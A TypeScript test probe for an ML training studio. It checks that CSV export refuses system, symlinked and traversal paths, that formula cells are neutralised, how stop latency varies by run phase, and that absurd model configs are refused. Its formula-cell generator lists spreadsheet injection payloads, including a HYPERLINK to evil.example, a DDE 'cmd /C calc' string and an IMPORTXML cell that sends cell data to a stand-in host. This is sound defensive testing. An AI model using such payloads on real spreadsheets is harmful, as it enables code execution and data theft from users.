// Fault scenarios from the issue-18 probe: export destinations (which are refused, which written), spreadsheet
// formula cells in CSVs (every dangerous text cell neutralised, every number unchanged), stop latency per
// phase (seconds from `runs:stop` to the run being `stopped`, real workers, the phase read from the run's own
// log) and absurd model configs (time and memory to the refusal, the field named).
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createBackend } from '../../backend/api/backend.js';
import type { EventEnvelope } from '../../backend/api/contract.js';
import { createRun, getRun, logStep } from '../../backend/db/run-store.js';
import { neutralizeFormula, parseCsv, toCsv } from '../../backend/export/csv.js';
import { Transformer } from '../../backend/model/core/transformer.js';
import { parseModelConfig } from '../../backend/model/core/config.js';
import { saveModel } from '../../backend/model/formats/checkpoint.js';
import { loadHfModel } from '../../backend/model/formats/hf-import.js';
import { Rng } from '../../backend/model/core/rng.js';
import { faultFixture } from './fixture.js';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

// ---- export destinations ----------------------------------------------------------------------------------

export interface DestinationCase {
  path: string;
  expect: 'refused' | 'written';
  status: number;
  ok: boolean;
  message: string;
}

/** export:csv through the API to places it must refuse and places it must write; ok = as expected, never 5xx. */
export async function runExportDestinations(): Promise<{ cases: DestinationCase[]; asExpected: number; total: number }> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'as-rel-export-'));
  const backend = createBackend({ dbPath: path.join(dir, 'studio.db') });
  try {
    const runId = createRun(backend.db, { kind: 'train', config: { steps: 1 }, name: 'r' });
    logStep(backend.db, runId, 1, { metrics: { reward: 0.5 }, episodes: [] });
    mkdirSync(path.join(dir, 'runs'), { recursive: true });
    symlinkSync('/etc', path.join(dir, 'etc-link'));
    const refused = [
      path.join(ROOT, 'x.csv'),
      path.join(ROOT, 'backend', 'x.csv'),
      '/etc/x.csv',
      '/proc/x.csv',
      '/proc/self/x.csv',
      '/sys/x.csv',
      '/usr/x.csv',
      '/dev/x.csv',
      path.join(dir, 'runs', 'x.csv'),
      path.join(dir, 'etc-link', 'x.csv'),
      `${dir}/sub/../x.csv`,
      'relative.csv',
      '/x.csv',
    ];
    const written = [path.join(dir, 'ok.csv'), path.join(backend.exportDir, 'mine.csv')];
    mkdirSync(backend.exportDir, { recursive: true });
    const cases: DestinationCase[] = [];
    for (const [expect, list] of [['refused', refused], ['written', written]] as const) {
      for (const p of list) {
        let status = 200;
        let message = '';
        try {
          await backend.handlers['export:csv']({ table: 'metrics', path: p, overwrite: false } as never);
        } catch (err) {
          status = (err as { status?: number }).status ?? 500;
          message = (err as Error).message;
        }
        const ok = expect === 'refused' ? status >= 400 && status < 500 && !existsSync(p) : status === 200 && existsSync(p);
        cases.push({ path: p, expect, status, ok, message });
      }
    }
    return { cases, asExpected: cases.filter((c) => c.ok).length, total: cases.length };
  } finally {
    await backend.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

// ---- formula cells ----------------------------------------------------------------------------------------

/** Random cells (dangerous prefixes, plain numbers as text and as numbers, ordinary text) through toCsv and back. */
export function runFormulaCells(o: { cells: number; seed: number }): { cells: number; dangerous: number; neutralised: number; numbers: number; numbersUnchanged: number; plainTextUnchanged: boolean } {
  const rng = new Rng(o.seed);
  const pick = <T>(xs: readonly T[]) => xs[rng.int(xs.length)]!;
  const prefixes = ['=', '+', '-', '@', '\t', '\r'];
  const bodies = ['HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', '1+1', 'A1', '2*3', ' x', '', 'IMPORTXML(CONCAT("http://e/?",A1),"//a")'];
  const cells: Array<string | number> = [];
  for (let i = 0; i < o.cells; i++) {
    const kind = rng.int(4);
    if (kind === 0) cells.push(pick(prefixes) + pick(bodies));
    else if (kind === 1) cells.push((rng.next() - 0.5) * 10 ** rng.int(6));
    else if (kind === 2) cells.push(String(-rng.int(1000)));
    else cells.push(`text ${rng.int(1000)} = ${rng.int(9)}`);
  }
  const back = parseCsv(toCsv(cells.map((c) => [c])));
  let dangerous = 0;
  let neutralised = 0;
  let numbers = 0;
  let numbersUnchanged = 0;
  let plainTextUnchanged = true;
  cells.forEach((c, i) => {
    const out = back[i]![0]!;
    if (typeof c === 'number' || /^-\d+$/.test(c)) {
      numbers++;
      if (out === String(c)) numbersUnchanged++;
    } else if (/^[=+\-@\t\r]/.test(c)) {
      dangerous++;
      if (out === `'${c}` && out === neutralizeFormula(c)) neutralised++;
    } else if (out !== c) plainTextUnchanged = false;
  });
  return { cells: cells.length, dangerous, neutralised, numbers, numbersUnchanged, plainTextUnchanged };
}

// ---- stop latency per phase -------------------------------------------------------------------------------

export type StopPhase = 'pre-training' | 'rollout' | 'update' | 'evaluation' | 'eval-run';

export interface StopTrial {
  target: StopPhase;
  /** The phase the run's own log says the stop landed in. */
  hit: string;
  seconds: number;
  status: string;
  stepsDone: number;
  checkpointStep: number | null;
  note: string;
}

/** Run configs (on the tiny fixture model) in which one phase takes nearly all of a step. */
function phaseConfig(fx: Awaited<ReturnType<typeof faultFixture>>, target: StopPhase): Record<string, unknown> {
  // The runtime a user gets by default (auto: the native CPU kernels here), not the fixture's plain-JS 'cpu'.
  const common = { steps: 400, checkpoint: { everySteps: 0 }, runtime: 'auto' };
  switch (target) {
    case 'pre-training':
      return { ...fx.config(5, 0), model: { source: 'builtin' }, runtime: 'auto' };
    case 'rollout':
      // Episodes generated one at a time (GRPO, no critic or reference): the rollout is about half of each step.
      return fx.config(0, 0, { ...common, rolloutBatch: 16, miniBatch: 16, algorithm: { name: 'grpo', samplesPerPrompt: 2, kl: { coef: 0 } }, generation: { batchSize: 1, maxTokensPerAttempt: 60, maxTotalTokens: 150 } });
    case 'update':
      return fx.config(0, 0, { ...common, rolloutBatch: 8, miniBatch: 2, epochs: 40, generation: { maxTokensPerAttempt: 2, maxTotalTokens: 6 } });
    case 'evaluation':
      return fx.config(0, 0, { ...common, rolloutBatch: 2, miniBatch: 2, eval: { everySteps: 1, maxQuestions: 200, attempts: 5 }, generation: { maxTokensPerAttempt: 20, maxTotalTokens: 100 } });
    case 'eval-run':
      return {}; // an evaluation run of the fixture's checkpoint (eval:start), not a training config
  }
}

/**
 * Per trial: a fresh backend (real worker processes), the target phase's run started; once it is in that
 * phase (pre-training: its log line; the others: after step 1, at a random moment of a later step) runs:stop,
 * and the seconds until its status is `stopped`.
 */
export async function runStopLatency(o: { phases: StopPhase[]; trials: number; seed: number; log?: (s: string) => void }): Promise<{ trials: StopTrial[]; byPhase: Record<string, { n: number; medianSeconds: number; maxSeconds: number }> }> {
  const rng = new Rng(o.seed);
  const trials: StopTrial[] = [];
  for (const target of o.phases) {
    for (let t = 0; t < o.trials; t++) {
      // Pre-training happens only without a shipped base model for the spec (as after a change of the spec).
      if (target === 'pre-training') process.env.ATTEMPT_STUDIO_SHIPPED_BASE_MODELS = 'none';
      const fx = await faultFixture('as-rel-stop-');
      const backend = createBackend({ dbPath: path.join(fx.dir, 'studio.db'), manager: { stopTimeoutMs: 300_000 } });
      const seen: EventEnvelope[] = [];
      backend.events.subscribe((e) => seen.push(e));
      const waitFor = async (pred: (e: EventEnvelope) => boolean, what: string, ms = 600_000) => {
        const end = Date.now() + ms;
        for (;;) {
          const hit = seen.find(pred);
          if (hit) return hit;
          if (Date.now() > end) throw new Error(`stop latency (${target}): timed out waiting for ${what}`);
          await new Promise((r) => setTimeout(r, 20));
        }
      };
      try {
        const { runId } =
          target === 'eval-run'
            ? await backend.handlers['eval:start']({ checkpoint: fx.base, datasets: ['synthetic'], attempts: 5, protocol: 'separate', limit: 1000, batchSize: 8, maxTokensPerAttempt: 30, maxTotalTokens: 150, seed: 0 } as never)
            : await backend.handlers['runs:start']({ config: phaseConfig(fx, target) } as never);
        const mine = (e: EventEnvelope) => (e.data as { runId?: number }).runId === runId;
        const line = (e: EventEnvelope) => (e.data as { line?: string }).line ?? '';
        if (target === 'pre-training') await waitFor((e) => mine(e) && e.name === 'runs:log' && /training the built-in base model/.test(line(e)), 'pre-training');
        else {
          // Training: steps 1 and 2; an evaluation run: its first two batches of 8 questions.
          const unit = target === 'eval-run' ? 8 : 1;
          await waitFor((e) => mine(e) && e.name === 'runs:progress' && (e.data as { step: number }).step >= unit, 'step 1');
          const t2 = performance.now();
          const s2 = await waitFor((e) => mine(e) && e.name === 'runs:progress' && (e.data as { step: number }).step >= 2 * unit, 'step 2');
          // Aim at the target phase of step 3 by step 2's own timings (rollout, then forwards + update, then the
          // evaluation): a random moment inside the middle 60% of that phase. The phase actually hit is read back.
          const whole = performance.now() - t2;
          let [from, to] = [0, whole];
          const m = (s2.data as { metrics?: Record<string, number> }).metrics ?? {};
          if (target !== 'eval-run' && m.secondsPerStep !== undefined && m.generationSeconds !== undefined) {
            const gen = m.generationSeconds * 1000;
            const step = m.secondsPerStep * 1000;
            const evalMs = Math.max(0, whole - step);
            if (target === 'rollout') [from, to] = [0.2 * gen, 0.8 * gen];
            else if (target === 'update') [from, to] = [gen + 0.2 * (step - gen), gen + 0.8 * (step - gen)];
            else if (target === 'evaluation') [from, to] = [step + 0.2 * evalMs, step + 0.8 * evalMs];
          }
          await new Promise((r) => setTimeout(r, from + rng.next() * (to - from)));
        }
        const t0 = performance.now();
        await backend.handlers['runs:stop']({ runId } as never);
        await waitFor((e) => mine(e) && e.name === 'runs:status' && ['stopped', 'interrupted', 'failed', 'completed'].includes((e.data as { status: string }).status), 'the end of the run');
        const seconds = (performance.now() - t0) / 1000;
        await backend.manager.settled(runId);
        const note = [...seen].reverse().find((e) => mine(e) && e.name === 'runs:log' && /^stopped /.test(line(e)));
        const text = note ? line(note) : '';
        const hit =
          target === 'eval-run' ? 'eval-run' : /pre-training/.test(text) ? 'pre-training' : (/stopped (?:during the (\w+)|(between steps))/.exec(text)?.slice(1).find(Boolean) ?? 'unknown');
        const run = getRun(backend.db, runId)!;
        const ck = /checkpoint at step (\d+)/.exec(text);
        trials.push({ target, hit, seconds, status: run.status, stepsDone: run.stepsDone, checkpointStep: ck ? Number(ck[1]) : null, note: text });
        o.log?.(`stop ${target} #${t + 1}: hit ${hit}, ${seconds.toFixed(2)} s, ${run.status}`);
      } finally {
        await backend.close();
        fx.cleanup();
        delete process.env.ATTEMPT_STUDIO_SHIPPED_BASE_MODELS;
      }
    }
  }
  const byPhase: Record<string, { n: number; medianSeconds: number; maxSeconds: number }> = {};
  for (const hit of [...new Set(trials.map((t) => t.hit))]) {
    const s = trials.filter((t) => t.hit === hit).map((t) => t.seconds).sort((a, b) => a - b);
    byPhase[hit] = { n: s.length, medianSeconds: Math.round(s[Math.floor(s.length / 2)]! * 100) / 100, maxSeconds: Math.round(s.at(-1)! * 100) / 100 };
  }
  return { trials, byPhase };
}

// ---- absurd model configs ---------------------------------------------------------------------------------

export interface AbsurdConfigCase {
  field: string;
  value: unknown;
  refused: boolean;
  namesField: boolean;
  seconds: number;
  /** Growth of the process's resident memory during the attempt (MiB). */
  rssGrowthMiB: number;
  message: string;
}

/** A tiny model folder whose config.json gets one absurd field at a time; each load must be refused at once. */
export async function runAbsurdConfigs(): Promise<{ cases: AbsurdConfigCase[]; refusedNamingField: number; total: number }> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'as-rel-config-'));
  try {
    const m = Transformer.create(parseModelConfig({ vocabSize: 40, hiddenSize: 16, numLayers: 1, numHeads: 2, numKvHeads: 1, intermediateSize: 24, rmsNormEps: 1e-6, ropeTheta: 10000, qkvBias: false, tieEmbeddings: true, maxPositions: 64 }), 1);
    await saveModel(dir, m);
    m.dispose();
    const original = JSON.parse(readFileSync(path.join(dir, 'config.json'), 'utf8')) as Record<string, unknown>;
    const edits: Array<[string, unknown]> = [
      ['max_position_embeddings', 1e7],
      ['max_position_embeddings', 1e12],
      ['max_position_embeddings', -1],
      ['num_hidden_layers', 1e6],
      ['num_hidden_layers', 3],
      ['hidden_size', 1e9],
      ['intermediate_size', 1e12],
      ['vocab_size', 1e9],
      ['vocab_size', 41],
      ['num_attention_heads', 1e6],
      ['num_key_value_heads', 0],
      ['head_dim', 1e6],
      ['rms_norm_eps', 'x'],
    ];
    const cases: AbsurdConfigCase[] = [];
    for (const [field, value] of edits) {
      writeFileSync(path.join(dir, 'config.json'), JSON.stringify({ ...original, [field]: value }));
      const rss0 = process.memoryUsage().rss;
      const t0 = performance.now();
      let message = '';
      let refused = false;
      try {
        (await loadHfModel(dir)).dispose();
      } catch (err) {
        refused = true;
        message = (err as Error).message;
      }
      const seconds = (performance.now() - t0) / 1000;
      cases.push({ field, value, refused, namesField: message.includes(`'${field}'`) || message.includes(`'${camel(field)}'`), seconds: Math.round(seconds * 1000) / 1000, rssGrowthMiB: Math.round((process.memoryUsage().rss - rss0) / 2 ** 20), message });
    }
    return { cases, refusedNamingField: cases.filter((c) => c.refused && c.namesField).length, total: cases.length };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The studio's own name for a config.json field, as parseModelConfig reports it. */
function camel(hf: string): string {
  const map: Record<string, string> = { num_key_value_heads: 'numKvHeads', head_dim: 'headDim', rms_norm_eps: 'rmsNormEps' };
  return map[hf] ?? hf;
}
